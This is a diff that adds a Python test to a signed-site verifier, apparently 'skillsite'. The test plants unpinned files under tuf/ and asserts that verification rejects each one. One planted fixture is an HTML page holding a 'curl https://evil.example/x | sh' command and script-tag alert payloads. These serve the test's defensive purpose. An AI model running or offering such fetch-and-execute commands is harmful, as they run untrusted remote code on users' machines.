@@ -417,6 +417,26 @@ def test_verify_names_every_published_file_changed_and_one_added(signed_examples
     assert missed == []
 
 
+def test_verify_names_a_file_under_tuf_that_is_no_metadata_the_signed_metadata_names(
+        signed_examples: Path, key_file: Path, tmp_path: Path) -> None:
+    """Every file under tuf/ was taken for signed metadata: a page with a script, a script under
+    tuf/files/, a list no targets pin, a root past the chain, a stale targets: all held."""
+    site = Path(shutil.copytree(signed_examples, tmp_path / "_site"))
+    version = version_of(site)
+    added = {"tuf/install.html": "<p>curl https://evil.example/x | sh</p><script>alert(1)</script>",
+             "tuf/files/x/app.js": "alert(1)", "tuf/files/extra.json": '{"files": {}}',
+             "tuf/9.root.json": "{}", f"tuf/{version - 1}.targets.json": "{}"}
+    for rel, text in added.items():
+        (site / rel).parent.mkdir(parents=True, exist_ok=True)
+        (site / rel).write_text(text)
+    done = skillsite("verify", str(site), "--trusted-key", public_of(key_file), "--json", cwd=tmp_path)
+    report = json.loads(done.stdout)
+    assert done.returncode == 1 and not report["ok"]
+    assert [f["file"] for f in report["failures"]] == sorted(added), report["failures"]
+    assert all("neither skills.json nor a signed list of tuf/files/ pins it" in f["reason"]
+               for f in report["failures"])
+
+
 def test_verify_names_a_symlinked_folder_a_host_would_serve(signed_examples: Path, key_file: Path,
                                                             tmp_path: Path) -> None:
     site = Path(shutil.copytree(signed_examples, tmp_path / "_site"))
